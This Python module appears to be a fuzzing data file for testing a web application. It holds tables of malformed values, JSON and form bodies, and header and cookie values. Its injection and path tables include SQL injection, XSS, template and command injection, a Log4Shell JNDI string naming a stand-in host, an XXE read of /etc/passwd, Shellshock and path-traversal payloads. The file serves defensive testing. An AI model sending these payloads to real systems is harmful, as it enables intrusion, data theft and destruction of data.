"""Tables of bad values, and of the bodies, headers and cookies that carry them."""

from __future__ import annotations

import random
from collections.abc import Callable
from typing import Final

# Must not appear in an answer as an element or a header, or evaluated.
MARK: Final = b"bad-input"
SUM: Final = b"9449772114007"


def _utf8(*texts: str) -> tuple[bytes, ...]:
    return tuple(text.encode() for text in texts)


VALUES: Final[dict[str, tuple[bytes, ...]]] = {
    "empty": (b"", b" ", b"\t", b"\r\n", *_utf8("\u00a0\u3000", "\u200b\ufeff\u2060", "\u3164")),
    "long": (
        b"a" * 129, b"a" * 501, b"a" * 5000, b"7" * 400, b"7" * 5000, "é".encode() * 300, b"/a" * 900, b" " * 900,
    ),
    "NUL": (b"\0", b"a\0b", b"7\0", b"\0007", b"2026-11-23\0", b"\0" * 40, b"/\0", b"A\0"),
    "control characters": (
        bytes(range(1, 32)), b"\x1b[2J\x1b]0;x\x07", b"\x7f", b"a\x08", *_utf8("\x85", "a\u2028b\u2029"),
    ),
    "not UTF-8": (
        b"\xff\xfe", b"\x80", b"caf\xe9", b"\xe2\x82", b"\xc0\xaf", b"\xc1\xbf", b"\xe0\x80\xaf", b"\xf4\x90\x80\x80",
        b"\xf8\x88\x80\x80\x80", b"\xed\xa0\x80", b"\xed\xa0\xbd\xed\xb8\x80", b"a\xffb", b"\xef\xbf", b"\xfe\xffA",
    ),
    "odd escapes": (
        b"%", b"%2", b"%zz", b"%00", b"%u0000", b"%u002f", b"%c0%ae%c0%ae%c0%af", b"%25%30%30", b"%252e%252e%252f",
        b"%%32%66", b"%ED%A0%80", b"%ff", b"%0d%0a", b"+", b"\\u0000", b"\\x00", b"&#0;", b"=?utf-8?q?x?=",
    ),
    "right to left": _utf8("\u202e7-A", "\u2066a\u2069", "\u200f\u200e", "שלום", "مرحبا", "a\u202dnimda"),
    "combining": _utf8(
        "\u0301", "a" + "\u0301" * 100, "\u0344\u20dd" * 20, "\ufdfa" * 40, "\u1100\u1161\u11a8", "ﬃ" * 45
    ),
    "emoji": _utf8("🪑", "👩‍👩‍👧‍👦" * 12, "🇩🇪", "\U0010ffff", "\ufffe\uffff", "\U000e0041\U000e007f", "\ue000", "👍🏿"),
    "look-alikes": _utf8("ａｄｍｉｎ", "аdа", "ß", "İ", "ı", "K", "ſ", "Å", "ǅ", "２０２６", "Ａ", "А"),
    "numbers": (
        b"0", b"-1", b"-0", b"+7", b" 7", b"7 ", b"007", b"7.0", b"7,0", b"1.5", b"1e3", b"7E0", b"1e400", b"0x7",
        b"0o7", b"0b111", b"1_0", b"7L", b"7;", b"7/", b"NaN", b"Infinity", b"-inf", b"--7", b"1/0", b"32768",
        b"2147483648", b"4294967296", b"9007199254740993", b"9223372036854775807", b"9223372036854775808",
        b"9999999999999999999", b"18446744073709551616", b"-9223372036854775809", b"9" * 20, b"9" * 4301,
        b"0" * 19 + b"7", *_utf8("７", "٧", "۷", "७", "𝟕", "²", "Ⅶ", "七", "−7", "７７７７"),
    ),
    "days": (
        b"2026-02-30", b"2025-02-29", b"2026-13-01", b"2026-00-10", b"2026-11-00", b"2026-11-31", b"0000-01-01",
        b"0001-01-01", b"9999-12-31", b"9999-12-30", b"10000-01-01", b"-2026-11-23", b"+2026-11-23", b"1582-10-10",
        b"1970-01-01", b"2038-01-20", b"2026-11-23T00:00:00", b"2026-11-23T00:00:00Z", b"2026-11-23 10:00+14:00",
        b"20261123", b"2026-W48-1", b"2026-327", b"26-11-23", b"23.11.2026", b"11/23/2026", b"2026-1-1", b"2026-11",
        b" 2026-11-23", b"2026-11-23\n", b"1795392000", b"1e9", b"today", b"infinity", b"-infinity", b"epoch", b"now",
        b"2026-11-23 BC",
        *_utf8("٢٠٢٦-١١-٢٣", "２０２６-１１-２３", "2026‐11‐23", "令和8年11月23日", "۱۴۰۵-۰۹-۰۲", "5787-09-13"),
    ),
    "paths and addresses": (
        b".", b"..", b"../../etc/passwd", b"..\\..\\win.ini", b"....//....//", b"/etc/passwd", b"C:\\boot.ini", b"~",
        b"*", b"\\\\bad-input.example\\a", b"//bad-input.example", b"/\\bad-input.example", b"\\/bad-input.example",
        b"https://bad-input.example/", b"http:bad-input.example", b"///bad-input.example", b"/\t/bad-input.example",
        b"javascript:alert(1)", b"data:text/html,<bad-input>", b"file:///etc/passwd", b"/@bad-input.example",
        b"/a?b#c", b"?", b"#", b"/..//bad-input.example", b"/%2f%2fbad-input.example", b"http://[::1",
        b"http://a:b@c:99999/", b";a=b", b"a/b",
    ),
    "injections": (
        b"'", b'"', b"\\", b"' or '1'='1", b"1 or 1=1", b"1; drop table users; --", b"7'; select pg_sleep(9); --",
        b"$1", b"$$", b":name", b"%(name)s", b"%' or username_key like '%", b"_", b"E'\\000'", b"*/ /*", b"7) or (1=1",
        b"\\'; --", b'"><bad-input onload=alert(1)>', b"'><bad-input>", b"</script><bad-input>", b"<!--<bad-input>",
        b"<bad-input/", b"&lt;bad-input&gt;", b"` onmouseover=`alert(1)", b"]]><bad-input>", b"{{1234567*7654321}}",
        b"{%print(1234567*7654321)%}", b"${1234567*7654321}", b"#{1234567*7654321}", b"<%= 1234567*7654321 %>",
        b"{{config.items()}}", b"%s%s%s%n", b"%x%p", b"{0}", b"{0.__class__.__mro__}", b"{name!r}", b"{", b"$(id)",
        b"`id`", b"; id", b"| id", b"&& id", b"*)(uid=*))(|(uid=*", b"${jndi:ldap://bad-input.example/a}",
        b"a\r\nx-bad-input: 1", b"a\nx-bad-input: 1\n\n<bad-input>", b"a\rb", b"a\r\nSet-Cookie: bad-input=1",
        b'{"$gt": ""}', b"__proto__", b"constructor.prototype", b"=cmd|' /c calc'!A0",
        b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>", b"() { :;}; echo x",
        b"EVAL 'return 1' 0", b"\r\nFLUSHALL\r\n",
    ),
    "words": (
        b"null", b"None", b"undefined", b"true", b"false", b"[]", b"{}", b"[object Object]", b"nil", b"on", b"ZZ",
        b"a",
    ),
}  # fmt: skip
# The most effective values; they are tried first.
TRIED_FIRST: Final = (
    b'"><bad-input onload=alert(1)>',
    b"a\0b",
    b"\xed\xa0\x80",
    b"9999-12-31",
    b"9223372036854775808",
    "٧".encode(),
)
ALL_VALUES: Final = tuple(value for values in VALUES.values() for value in values)

# JSON texts that replace a value or a whole body.
DEEP: Final = 7_000
JSON_VALUES: Final = (
    b"null", b"true", b"false", b"0", b"-1", b"-0", b"7.5", b"7.0", b"7e0", b"1e400", b"-1e-400",
    b"9223372036854775808", b"-9223372036854775809", b"9" * 400, b"9" * 5000, b"0." + b"1" * 400, b'""', b'" "',
    b'"7"', b'"true"', b"[]", b"[7]", b"[[]]", b"{}", b'{"a": 7}', b'{"$gt": 0}', b'"\\u0000"', b'"a\\u0000b"',
    b'"\\ud800"', b'"\\udc00\\ud800"', b'"\\uD83E\\uDE91"', b"NaN", b"Infinity", b"-Infinity", b"07", b"+7", b".7",
    b"7.", b"0x7", b"'7'", b"7 7", b"nul", b"True", b'"\\x"', b'"\t"', b'"\xff"', b'"\xed\xa0\x80"', b'"', b'"a', b"",
    b"/**/7", b"[" * 400 + b"]" * 400, b"[" * DEEP, b'{"a":' * 400 + b"7" + b"}" * 400, b'"2026-11-23T00:00:00Z"',
    b'"20261123"', b"1795392000", b'"2026-02-30"', b'"0000-01-01"', b'"9999-12-31"', b'"A" : "B"',
)  # fmt: skip
JSON_BODIES: Final = (
    b"", b" ", b"null", b"true", b"7", b'"a"', b"[]", b"[{}]", b"{", b"}", b'{"', b'{"a"', b'{"a":', b'{"a":7',
    b"{} {}", b"{}x", b"{'a': 7}", b"{a: 7}", b"{,}", b'{"a": 7,}', b'{"a" 7}', b"\xef\xbb\xbf{}",
    '{"a": 7}'.encode("utf-16"), b"\xff\xfe{\0}\0", '{"a": 7}'.encode("utf-32-be"), b"[" * DEEP,
    b"[" * DEEP + b"]" * DEEP, b'{"a":' * 2500, b"NaN", b"\0", b"{}\0", b"\x1f\x8b\x08\0", b'{"a": 7, "a": 8}',
    b'{"": 7}', b'{"\\u0000": 7}', b'{"\\ud800": 7}', b'{"__proto__": {"a": 7}}', b"a=7&b=8", b"<a>7</a>",
    b"{" + b",".join(b'"a%d": 7' % n for n in range(1200)) + b"}", b'{"a": "' + b"a" * 15_000 + b'"}',
    b'{"a": "' + b"a" * 70_000 + b'"}',
)  # fmt: skip

# Complete form bodies, each with its content type; {fields} stands for the form's own fields.
BOUNDARY: Final = b"bad-boundary"
_PART: Final = b'--bad-boundary\r\nContent-Disposition: form-data; name="%s"%s\r\n\r\n%s\r\n'
_MULTIPART: Final = b"multipart/form-data; boundary=bad-boundary"
_URLENCODED: Final = b"application/x-www-form-urlencoded"
_ODD_PARTS: Final = (
    (b"a", b'; filename="a.exe"', b"a"),
    (b"a", b'; filename="../../a"\r\nContent-Type: text/html; charset=bad', b"a"),
    (b"a", b"; filename*=utf-8''%00%ff", b"a"),
    (b"a", b"\r\nContent-Transfer-Encoding: base64", b"===="),
    (b"a", b"\r\nContent-Type: text/plain; charset=utf-16", b"a"),
    (b"a", b"\r\nContent-Type: text/plain; charset=bad-input", b"a"),
    (b"a", b"\r\nContent-Type: multipart/mixed; boundary=b", b"--b\r\n\r\na\r\n--b--"),
    (b"a", b"\r\nA: " + b"a" * 20_000, b"a"),
    (b"a", b"\r\nA: a" * 500, b"a"),
    (b'"; name="b', b"", b"a"),
    (b"\xff\0", b"", b"\xff\0"),
)
_BAD_PARTS: Final = (
    b"--bad-boundary\r\nContent-Disposition: form-data\r\n\r\na\r\n", b"--bad-boundary\r\n",
    b"--bad-boundary\nA: b\n\na\n",
    b"--bad-boundary\r\nContent-Disposition: attachment; name=a\r\n\r\na\r\n", b"--bad-boundary\r\n: a\r\n\r\na\r\n",
    b"".join(_PART % (b"a%d" % n, b"", b"a") for n in range(700)), *(_PART % part for part in _ODD_PARTS),
)  # fmt: skip
FORM_BODIES: Final[tuple[tuple[bytes | None, bytes], ...]] = (
    *(
        (_URLENCODED, body)
        for body in (
            b"", b"&&&&", b"=", b"==&=a&a", b"{fields}&", b"{fields}&{fields}", b"{fields};a=b", b"{fields}&\xff=\xfe",
            b"{fields}&%00=%00", b"{fields}&" + b"a=b&" * 2000, b"{fields}&a=" + b"a" * 70_000, b"{fields}&%ED%A0%80=a",
            b"{fields}&" + b"&".join(b"a%d=" % n for n in range(1500)), b"{fields}&a[b][]=c&a.b=c", b"\0" * 200,
            b"{fields}&_method=DELETE&__proto__[a]=b",
        )
    ),
    *((_URLENCODED + b"; charset=" + name, b"{fields}") for name in (
        b"", b"utf-16", b"utf-7", b"idna", b"rot13", b"base64", b"bad-input", b"\xff")),
    *((kind, b"{fields}") for kind in (
        None, b"", b"a", b"text/plain", b"application/json", b"multipart/form-data", _MULTIPART, b"text/xml; a")),
    (None, b""), (b"text/xml", b"<a/>"), (b"application/json", b"{}"), (b"application/json", b'{"_csrf_token": "a"}'),
    (b"application/octet-stream", b"\xff\0"), (b"multipart/form-data; boundary=", b"--\r\n\r\n----"),
    (b'multipart/form-data; boundary="', b"--"), (b"multipart/form-data; boundary=" + b"a" * 3000, b"--a"),
    (b"multipart/form-data; boundary=\xff", b"--\xff"), (b"multipart/form-data; boundary=other", b"{parts}"),
    *((b"multipart/" + kind, b"{parts}") for kind in (
        b"mixed; boundary=bad-boundary", b"form-data; boundary=bad-boundary; boundary=other",
        b"form-data; charset=utf-16; boundary=bad-boundary", b"form-data; charset=bad-input; boundary=bad-boundary")),
    *(
        (_MULTIPART, body)
        for body in (
            b"", b"--bad-boundary--\r\n", b"--bad-boundary", b"--bad-boundary\r\n\r\n\r\n--bad-boundary--",
            b"a\r\n{parts}", b"{parts}" + b"a" * 100, b"{parts}{parts}", b"\r\n\r\n" * 50, b"{open}",
            b"{open}--bad-boundary\r\nContent-Dis",
            *(b"{open}" + part + b"--bad-boundary--\r\n" for part in _BAD_PARTS),
        )
    ),
)  # fmt: skip
CONTENT_TYPES: Final = (
    None, b"", b"/", b"a", b"text/plain", b"application/x-www-form-urlencoded", b"multipart/form-data; boundary=a",
    b"application/xml", b"application/json; charset=utf-16", b"application/json; charset=bad-input",
    b"application/json, text/html", b"application/jsonp", b"application/vnd.api+json", b"APPLICATION/JSON;;;",
    b"application/json\xff", b"application/msgpack", b"application/x-msgpack",
)  # fmt: skip

# Values for specific headers; each of these headers also gets the general values.
HEADERS: Final[dict[bytes, tuple[bytes, ...]]] = {
    b"HX-Request": (b"true", b"TRUE", b"false", b"true, true"),
    b"HX-Current-URL": (b"http://bad-input.example/days/x",), b"HX-Target": (b"day", b"#<bad-input>"),
    b"HX-Trigger": (b"seat-7",), b"HX-Trigger-Name": (b"a",), b"HX-Prompt": (b"a",), b"HX-Boosted": (b"true",),
    b"HX-History-Restore-Request": (b"true",), b"HX-Source": (b"a",), b"HX-Request-Type": (b"full", b"partial"),
    b"If-None-Match": (b"*", b'"', b'W/"a", "b"', b'W/"', b"a," * 900),
    b"If-Modified-Since": (b"Thu, 31 Feb 2026 25:00:00 GMT", b"0"), b"If-Match": (b'"a"', b"*"),
    b"If-Unmodified-Since": (b"a",), b"If-Range": (b'"a"',),
    b"Last-Event-ID": (b"1.1.1.1", b"20261123-1", b"a:1" * 200),
    b"Range": (
        b"bytes=0-0", b"bytes=5-1", b"bytes=-1", b"bytes=0-" + b"9" * 40, b"bytes=" + b"0-0," * 900, b"seats=1-2",
    ),
    b"Accept": (
        b"application/json", b"image/png", b"text/html;q=a", b"*/*;q=1e400", b"a/b;" * 400, b"application/msgpack",
    ),
    b"Accept-Encoding": (b"gzip", b"br", b"gzip;q=a", b"identity;q=0, *;q=0", b"deflate, zstd"),
    b"Accept-Language": (b"a-" * 200, b"*;q=9"), b"Accept-Charset": (b"utf-16",),
    b"Content-Encoding": (b"gzip", b"br", b"a"), b"Content-Language": (b"a",), b"Cache-Control": (b"only-if-cached",),
    b"Idempotency-Key": (b"", b"a b", b'"', b'""', b"a" * 256, b"a" * 5000, "ä".encode(), b"a\tb"),
    b"Prefer": (b"respond-async",),
    b"Authorization": (
        b"Bearer", b"Bearer ", b"Bearer a.b.c", b"Basic YTpi", b"Basic \xff", b"Digest a", b"Bearer a b",
        b"bearer " + b"a" * 5000,
    ),
    b"Origin": (b"null", b"https://bad-input.example", b"http://localhost", b"://", b"http://"),
    b"Referer": (b"http://[", b"about:blank"), b"Sec-Fetch-Site": (b"cross-site", b"same-site", b"a"),
    b"Sec-Fetch-Mode": (b"navigate",), b"User-Agent": (b"", b"a" * 5000, b"Mozilla/5.0 (" * 200),
    b"X-Forwarded-For": (b"127.0.0.1", b"::1, a", b"a," * 900, b"[::1]:7", b"999.1.1.1"),
    b"Forwarded": (b"for=127.0.0.1;host=bad-input.example", b";;;"), b"X-Forwarded-Host": (b"bad-input.example",),
    b"X-Forwarded-Proto": (b"https", b"a"), b"X-Real-IP": (b"127.0.0.1",), b"X-Original-URL": (b"/admin/people",),
    b"X-HTTP-Method-Override": (b"DELETE",), b"X-Request-Id": (b"a" * 900,), b"Seatweb-Quiet": (b"1",),
    b"Host": (
        b"", b"bad-input.example", b"localhost:99999", b"localhost:a", b"[::1", b"[::1]", b"a@b", b"a/b", b"a b",
        b"localhost, a", b"127.0.0.1:7", b"-", b"..",
    ),
    b"Upgrade": (b"websocket", b"h2c"), b"TE": (b"trailers",), b"Max-Forwards": (b"0",), b"Expect": (b"200-ok",),
    b"Via": (b"1.1 a",), b"Transfer-Encoding": (b"identity", b"gzip, chunked", b"a"),
    b"Content-Length": (b"-1", b"a", b"9" * 30, b"0x7", b"7, 8", b""), b"Traceparent": (b"00-a-b-01",),
    b"Access-Control-Request-Method": (b"DELETE", b"a"), b"DNT": (b"2",),
}  # fmt: skip
COOKIE_HEADERS: Final = (
    b"", b";", b"=", b"a", b"=a", b";;;=;=", b"a=b; " * 400, b'a="', b'a="b\\"c"; d', b"$Version=1; a=b; $Path=/",
    b"\xff=\xfe", b"a=%00", b"a=\0", b"a=" + b"a" * 9000, b"seatweb_session=; seatweb_session=",
    b"__Host-seatweb_session=a", b"a=b,c=d", "🪑=🪑".encode(), b"seatweb_csrf",
    b"seatweb_notice=welcome; seatweb_notice=a", b"a:b=c", b"(a)=b", b"seatweb_csrf=" + b"\xd9\xa0" * 64,
)  # fmt: skip
METHODS: Final = (
    b"PUT",
    b"PATCH",
    b"DELETE",
    b"POST",
    b"GET",
    b"OPTIONS",
    b"TRACE",
    b"PROPFIND",
    b"get",
    b"BAD",
    b"HEAD",
)


def random_value(rng: random.Random) -> bytes:
    """Return a random value: a changed one, a combination, or arbitrary bytes."""
    value = rng.choice(ALL_VALUES)
    cut = rng.randrange(len(value) + 1)
    scripts = (range(1, 0x250), range(0x600, 0x3000), range(0xE000, 0x11000))
    makes: tuple[Callable[[], bytes], ...] = (
        lambda: value[:400] + rng.choice(ALL_VALUES)[:400],
        lambda: value[:cut] + rng.randbytes(1) + value[cut + 1 :],
        lambda: value[:200] * rng.randint(2, 9),
        lambda: rng.randbytes(rng.randint(1, 40)),
        lambda: "".join(chr(rng.choice(rng.choice(scripts))) for _ in range(12)).encode(errors="replace"),
        lambda: b"%d" % rng.randint(-(2**70), 2**70),
        lambda: b"%04d-%02d-%02d" % (rng.randint(0, 10_100), rng.randint(0, 14), rng.randint(0, 33)),
    )
    return rng.choice(makes)()
